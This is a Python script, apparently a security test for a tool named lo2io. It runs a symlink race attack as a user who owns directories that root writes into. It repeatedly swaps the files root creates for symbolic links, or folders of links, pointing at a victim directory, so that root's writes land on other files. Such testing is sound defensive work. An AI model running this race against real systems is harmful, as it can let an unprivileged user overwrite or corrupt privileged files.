"""A user who owns the directories into which root writes, and tries to make root write to other files.

    attacker.py HOMES VICTIM [SECONDS]

Run it as the owner of every ``HOMES/*`` and ``HOMES/*/T``. It renames what root makes in ``T``, and ``T`` itself, at
once or a little later. In its place, it puts a symbolic link to the folder ``VICTIM``, or a folder of links to files
there under all names that lo2io writes. After a while, it takes the trap away, so that lo2io gets further. It goes on
until stdin ends, or for so many seconds, and prints how often it exchanged something.
"""

from __future__ import annotations

import contextlib
import itertools
import random
import select
import sys
import time
from pathlib import Path

NAMES = (
    *("spool.json", "spool.json.new", ".reserve", "facts.ring", ".recorder", "dumps.jsonl", ".control"),
    *("cpu-0000.ring", "cpu-0001.ring", "cpu-0000.calls", "cpu-0001.calls"),
    *("traces.otf2", "traces.def", "traces.marker", "0.evt", "0.def", "1.evt", "1.def", "traces", "lo2io", "spool"),
    *("metadata.json", "metadata.json.part", "operations.arrow", "operations.arrow.part", "files.arrow", "page.html"),
)
"""What lo2io writes, or once wrote."""
_PAUSE_S = 0.001
_WAITS_S = (0.0, 0.1, 0.3)
_HOLDS_S = (0.01, 0.1, 0.8)
"""How long something is there before it is exchanged, and how long a trap stays: one of these times each."""
_numbers = itertools.count()


def aside(entry: Path) -> Path:
    """A name in the same folder that lo2io ignores, like that of an old window."""
    return entry.with_name(f"dump-20200101-{next(_numbers) % 1_000_000:06}")


class Attack:
    """An attack on one ``T``, with one trap at a time."""

    def __init__(self, trace: Path, victim: Path) -> None:
        self.nr_exchanged = 0
        self._trace = trace
        self._victim = victim
        self._trap: tuple[Path, Path] | None = None
        self._until = 0.0
        self._is_near = False

    def go_on(self) -> None:
        """Set a trap, or take it away when its time is over."""
        with contextlib.suppress(OSError):
            if self._trap is None and time.monotonic() > self._until:
                self._set()
            elif self._trap is not None and time.monotonic() > self._until:
                self._is_near = False
                (entry, original), self._trap = self._trap, None
                entry.unlink() if entry.is_symlink() else entry.rename(aside(entry))
                original.rename(entry)

    def _set(self) -> None:
        made = [entry for entry in self._trace.iterdir() if entry.lstat().st_uid == 0 and entry.name[:5] != "dump-"]
        if not made:
            return
        if not self._is_near:
            self._is_near = True
            self._until = time.monotonic() + random.choice(_WAITS_S)  # noqa: S311
            return
        entry = random.choice([*made, *made, self._trace])  # noqa: S311
        original = aside(entry)
        entry.rename(original)
        self._trap = entry, original
        self._until = time.monotonic() + random.choice(_HOLDS_S)  # noqa: S311
        if random.random() < 0.3:  # noqa: S311
            entry.symlink_to(self._victim)
        else:
            entry.mkdir()
            for name in NAMES:
                (entry / name).symlink_to(self._victim / name)
        self.nr_exchanged += 1


def main() -> None:
    """Attack until the end."""
    homes, victim = Path(sys.argv[1]), Path(sys.argv[2])
    bounded = len(sys.argv) > 3
    end = time.monotonic() + (float(sys.argv[3]) if bounded else float("inf"))
    attacks = [Attack(trace, victim) for trace in homes.glob("*/T")]
    print("ready", flush=True)
    while time.monotonic() < end and (bounded or not select.select([0], [], [], 0)[0]):
        for attack in attacks:
            attack.go_on()
        time.sleep(_PAUSE_S)
    print(sum(attack.nr_exchanged for attack in attacks), flush=True)


if __name__ == "__main__":
    main()
